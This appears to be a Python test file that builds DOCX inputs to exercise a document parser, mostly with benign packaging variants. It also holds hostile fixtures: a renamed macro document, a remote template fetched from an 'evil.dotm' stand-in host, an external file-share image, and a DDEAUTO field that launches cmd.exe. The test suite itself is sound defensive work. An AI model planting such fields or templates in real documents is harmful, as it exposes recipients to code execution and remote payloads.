# SPDX-FileCopyrightText: 2026 法治年报 contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""DOCX files: how a document is packed, and what it brings along."""
import re
import zipfile

from badinputs.docxcases import docx_case
from badinputs.hostilezips import streamed_zip, zip64
from badinputs.reports import first_mark
from badinputs.wordparts import (
    RELATION_NAMESPACE,
    WORD_NAMESPACE,
    WORD_STRICT_NAMESPACE,
    WORD_TYPE,
    XML_HEAD,
    content_types,
    docx,
    png_image,
    relations,
    report_lines,
    word_body,
    word_document,
    word_parts,
    word_run,
    zipped,
)

docx_case(
    "D16",
    "严格 OOXML 命名空间（purl.oclc.org）",
    "accept",
    lambda case, chance: zipped(
        [
            ("[Content_Types].xml", content_types([("/word/document.xml", WORD_TYPE + "document.main+xml")])),
            (
                "_rels/.rels",
                relations(
                    [
                        (
                            "rId1",
                            "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
                            "word/document.xml",
                            "",
                        )
                    ]
                ),
            ),
            ("word/document.xml", word_document(word_body(case), ns=WORD_STRICT_NAMESPACE).encode()),
        ]
    ),
)
docx_case(
    "D17",
    "命名空间前缀不是 w（ns0）",
    "accept",
    lambda case, chance: zipped(
        word_parts(
            re.sub("(</?)w:", "\\1ns0:", word_document(word_body(case)))
            .replace("xmlns:w=", "xmlns:ns0=")
            .replace(" w:w=", " ns0:w=")
            .replace(" w:h=", " ns0:h=")
        )
    ),
)
docx_case(
    "D18",
    "document.xml 为 UTF-16",
    "accept",
    lambda case, chance: zipped(
        word_parts(
            b"\xff\xfe"
            + word_document(word_body(case), head='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le")
        )
    ),
)
docx_case(
    "D19",
    "zip 不压缩（stored）",
    "accept",
    lambda case, chance: zipped(word_parts(word_document(word_body(case))), zipfile.ZIP_STORED),
)
docx_case(
    "D20",
    "zip 用数据描述符（本地头大小为 0）",
    "accept",
    lambda case, chance: streamed_zip(word_parts(word_document(word_body(case)))),
)
docx_case(
    "D21",
    "条目次序颠倒，[Content_Types] 在最后",
    "accept",
    lambda case, chance: zipped(word_parts(word_document(word_body(case)))[::-1]),
)
docx_case(
    "D22",
    "主文档在别的路径（由 _rels 指出）",
    "accept",
    lambda case, chance: zipped(word_parts(word_document(word_body(case)), main="word/document2.xml")),
)
docx_case(
    "D23",
    "注音 ruby：rt 不得混入正文两遍",
    "accept",
    lambda case, chance: docx(
        case,
        word_body(case)
        + "<w:p><w:r><w:t>3.推进</w:t></w:r><w:r><w:ruby><w:rubyPr/><w:rt><w:r><w:t>注音辛</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>项目</w:t></w:r></w:rubyBase></w:ruby></w:r><w:r><w:t>建设。</w:t></w:r></w:p>",
    ),
    contains=[first_mark("D23"), "推进项目建设"],
    absent=["注音辛"],
)
docx_case(
    "D24",
    "用软回车分段（一个段落内多个 br）",
    "warn",
    lambda case, chance: docx(
        case, "<w:p>" + "<w:r><w:br/></w:r>".join((word_run(l) for l in report_lines(case))) + "</w:p>"
    ),
)
docx_case(
    "D25",
    "带图片",
    "accept",
    lambda case, chance: docx(
        case,
        word_body(case),
        more=[("word/media/image1.png", png_image())],
        drel=[("rId9", "image", "media/image1.png", "")],
    ),
)
docx_case("D26", "zip64 结构", "accept", lambda case, chance: zip64(word_parts(word_document(word_body(case)))))
docx_case(
    "D30",
    "隐藏文字（vanish）",
    "warn",
    lambda case, chance: docx(case, word_body(case) + "<w:p>%s</w:p>" % word_run("3.隐藏的一条壬。", "<w:vanish/>")),
)
docx_case(
    "D31",
    "宏文档 docm 改名",
    "warn",
    lambda case, chance: zipped(
        [
            (
                n,
                (
                    d.replace(b"wordprocessingml.document.main+xml", b"x").replace(
                        WORD_TYPE.encode() + b"document.main+xml",
                        b"application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                    if n.startswith("[")
                    else d
                ),
            )
            for n, d in word_parts(
                word_document(word_body(case)),
                more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500)],
                drel=[
                    ("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")
                ],
            )
        ]
    ),
    hazard="宏绝不可运行",
)
docx_case(
    "D32",
    "远程模板（attachedTemplate http）",
    "warn",
    lambda case, chance: docx(
        case,
        word_body(case),
        more=[
            (
                "word/settings.xml",
                XML_HEAD
                + '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>'
                % (WORD_NAMESPACE, RELATION_NAMESPACE),
            ),
            (
                "word/_rels/settings.xml.rels",
                relations([("rId1", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", ' TargetMode="External"')]),
            ),
        ],
        drel=[("rId9", "settings", "settings.xml", "")],
    ),
    hazard="不得联网",
)
docx_case(
    "D33",
    "外部图片 file://///server/share",
    "warn",
    lambda case, chance: docx(
        case, word_body(case), drel=[("rId9", "image", "file://///127.0.0.1/share/a.png", ' TargetMode="External"')]
    ),
    hazard="不得联网",
)
docx_case(
    "D34",
    "altChunk 引入 HTML",
    "warn",
    lambda case, chance: docx(
        case,
        word_body(case) + '<w:altChunk r:id="rId9"/>',
        more=[("word/afchunk.html", "<html>外来块癸</html>")],
        drel=[("rId9", "aFChunk", "afchunk.html", "")],
    ),
)
docx_case(
    "D35",
    "DDEAUTO 域",
    "warn",
    lambda case, chance: docx(
        case,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO'
        ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar'
        ' w:fldCharType="end"/></w:r></w:p>'
        + word_body(case),
    ),
    hazard="绝不可执行",
)
docx_case(
    "D36",
    "zip 前有杂质数据与注释",
    "warn",
    lambda case, chance: b"#!/bin/sh\nexit 1\n" * 10
    + zipped(word_parts(word_document(word_body(case))), comment=b"comment"),
)
docx_case(
    "D37", "缺 [Content_Types].xml", "warn", lambda case, chance: zipped(word_parts(word_document(word_body(case)))[1:])
)
